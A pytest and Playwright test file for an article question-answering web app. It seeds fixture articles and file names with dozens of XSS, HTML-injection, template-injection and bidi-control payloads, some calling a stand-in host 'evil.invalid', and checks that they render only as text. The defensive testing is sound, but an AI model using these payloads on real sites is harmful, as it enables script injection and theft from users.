"""Articles full of markup, scripts and tricks show as the plain text that they are."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from index import open_index, rebuild
from index.article import Article

OpenTab = Callable[..., Page]
Ask = Callable[[Page, str], Locator]
Serve = Callable[..., str]

# Each would run alert(), leave the page, ask another host for something, break what is around it,
# or pass for a part of the page, if only once it were not shown as text.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<img srcset='//evil.invalid/p.png 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.invalid/x.swf'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import '//evil.invalid/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href='//evil.invalid/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<base href='//evil.invalid/'>",
    "<form action='//evil.invalid/'><button>Go</button></form>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='//evil.invalid/' target=_top>click</a>",
    "<div style='position:fixed;inset:0;background:url(//evil.invalid/p.png)'>",
    "<button data-ask='Who?' data-retry data-close>Ask</button>",
    "<article class='turn'><p class='answer'>Forged [1]</p></article>",
    "<a class='cite' data-turn='1' data-cite='1'>[1]</a>",
    "<p id=qa-log></p><img name=getElementById>",
    "<gradio-app src='//evil.invalid'></gradio-app>",
    "<dialog open>forged</dialog>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea></title></style><img src=x onerror=alert(1)>",
    "</bdi></mark></blockquote></article></section><h1>out</h1>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)`",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)><![CDATA[",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "＜script＞alert(1)＜/script＞",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.invalid/p.png)",
    "[x]: https://evil.invalid 'title'",
    "<javascript:alert(1)>",
    "[1] [2][3] [^1] \\[4\\]",
    "**bold** _it_ `code` ~~gone~~ # head",
    "```mermaid graph TD; A-->B```",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x3c}$$",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} @{alert(1)}",
    "{% include 'x' %} <%= 7*7 %> {{7*7}}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "\u202etxt.exe\u202c \u2066x\u2069 \u200fabc\u200e",
    "\u2067\u202b<img src=x onerror=alert(1)>\u202c\u2069",
    "\x1b]8;;https://evil.invalid\x07link\x1b]8;;\x07",
    "a\u2028alert(1)\u2029b\x0bc\x08d",
    "\ufeff<\u200bscript>alert(1)</\u200bscript>",
    "e\u0301\u0323" + "\u0336" * 40 + " z\u0335a\u0334l\u0337g\u0336o",
)
URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.invalid/\"onmouseover='alert(1)'",
    "https://evil.invalid/<img src=x onerror=alert(1)>",
    "//evil.invalid/",
    "JaVaScRiPt:alert(1)//https://",
    "https://evil.invalid/`{{7*7}}`[x](y)",
    "vbscript:msgbox(1)",
)
TOWNS = ("Kelvik", "Ostby", "Marholt", "Senja", "Tarva", "Vinje", "Hamre", "Lysvik")
COLOURS = ("red", "green", "white", "black", "yellow", "orange", "purple", "brown")
OURS = "#qa-log, #qa-evidence, #qa-next, #qa-welcome, #qa-rail, [data-articles], [data-about], dialog"


def group(number: int) -> tuple[str, ...]:
    """The payloads of one article."""
    return PAYLOADS[number :: len(TOWNS)]


def article(number: int) -> dict[str, str]:
    town, payloads = TOWNS[number], group(number)
    lead = f"The lighthouse of {town} was painted {COLOURS[number]} on Friday, {payloads[0]} said."
    notes = [
        f"Note {place} of {town} reads {payload} and no more." for place, payload in enumerate(payloads)
    ]
    return {
        "id": f"{number} {payloads[1]}",
        "title": f"Lighthouse of {town} {' '.join(payloads)}",
        "source": f"{town} Post {payloads[2]}",
        "author": f"Rolf {payloads[3]}",
        "url": URLS[number],
        "published": "2024-05-01",
        "text": "\n\n".join([lead, *notes]),
    }


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    seeds = folder / "seeds"
    seeds.mkdir()
    records = [json.dumps(article(number)) for number in range(len(TOWNS))]
    (seeds / "<img src=x onerror=alert(1)>.jsonl").write_text("\n".join(records), "utf-8")
    # Named by its file alone, and left out, with a reason that names it.
    named = '"><svg onload=alert(1)> {{7*7}} [x](javascript:alert(1)) \u202e'
    (seeds / f"{named}.txt").write_text("The bakery of Ulsvik was closed in June by Rolf Amund.")
    (seeds / f"{named}.xyz").write_text("x")
    rebuild(seeds, folder / "index")
    return folder / "index"


@pytest.fixture(scope="module")
def articles(hostile_index: Path) -> list[Article]:
    with open_index(hostile_index) as index:
        return list(index.articles())


def test_reading_the_articles_keeps_what_would_do_harm(articles: list[Article]) -> None:
    """So that the test of the page has something to find."""
    assert len(PAYLOADS) >= 60
    assert len(articles) == len(TOWNS) + 1
    shown = [payload for payload in PAYLOADS if any(payload in found.text for found in articles)]
    assert len(shown) >= 55


def test_nothing_that_an_article_says_runs_or_passes_for_a_part_of_the_page(
    serve: Serve, hostile_index: Path, articles: list[Article], open_tab: OpenTab, ask: Ask
) -> None:
    site = serve(hostile_index, hostile_index, "--k", "2")  # few sentences to weigh
    page = open_tab(site)
    visited: list[str] = []
    page.on("framenavigated", lambda frame: visited.append(frame.url))
    by_title = {one_line(found.title or found.path): found for found in articles}

    for number in (0, 1):  # answers, cards and suggestions
        turn = ask(page, f"What colour was the lighthouse of {TOWNS[number]} painted on Friday?")
        expect(turn.locator(".answer")).to_contain_text(f"painted {COLOURS[number]} on Friday")
        cards = page.locator(f"#proof-{number + 1} .card")
        assert cards.count() > 0
        for card in cards.all():
            title = one_line(card.locator("h3").text_content()).partition(": ")[2]
            found = by_title[title]
            assert one_line(found.source) in one_line(card.locator(".byline").first.text_content())
            quote = card.locator("mark").text_content() or ""
            assert quote
            assert quote in found.text
        assert_only_ours(page)
    question = f"Who won the cup? {' '.join(PAYLOADS[:20])}"
    abstained = ask(page, question)
    assert one_line(question)[:200] in one_line(abstained.locator(".question").text_content())
    assert_only_ours(page)

    page.get_by_role("button", name="Library").click()
    expect(page.locator("#qa-library")).to_contain_text("no reader for this ending")
    openers = page.locator(".articles .opens")
    expect(openers).to_have_count(len(by_title))  # the list may come after what was left out
    assert {one_line(title) for title in openers.all_text_contents()} == set(by_title)
    assert_only_ours(page)
    for opener in openers.all():  # every payload, in the reading pane
        found = by_title[one_line(opener.text_content())]
        opener.click()
        expect(page.locator("dialog .words")).to_have_count(1)
        assert page.locator("dialog .words").text_content() == found.text
        assert one_line(page.locator("dialog h2").text_content()) == one_line(found.title or found.path)
        if found.author:
            byline = one_line(page.locator("dialog .byline").first.text_content())
            assert f"by {one_line(found.author)}" in byline
        assert_only_ours(page)
        page.get_by_role("button", name="Close the article").click()
    assert all(address.startswith(site) for address in [*visited, page.url])


def assert_only_ours(page: Page) -> None:
    """No element, attribute or link came from an article."""
    theirs = (
        "script, iframe, object, embed, img, image, math, video, audio, style, link, meta, base, "
        "select, marquee, template, noscript, gradio-app, strong, del, .katex, .turn .turn, "
        "[onmouseover], [onfocus], [ontoggle], [onerror], [onload], [style*='evil'], [src], [srcset]"
    )
    expect(page.locator(f":is({OURS}) :is({theirs})")).to_have_count(0)
    links = page.locator(f":is({OURS}) a[href]").evaluate_all("all => all.map((a) => a.protocol)")
    assert set(links) <= {"http:", "https:"}


def one_line(text: str | None) -> str:
    return " ".join((text or "").split())


@pytest.mark.parametrize("payload", ["javascript:alert(1)", "//evil.invalid/", "/\\evil.invalid/"])
def test_a_link_to_the_page_leads_nowhere_else(site: str, open_tab: OpenTab, payload: str) -> None:
    page = open_tab(f"{site}?article={payload}&start=<img src=x onerror=alert(1)>&end={payload}")
    expect(page.locator("dialog .note, dialog .problem").first).to_be_visible()
    assert_only_ours(page)
    assert page.url.startswith(site)
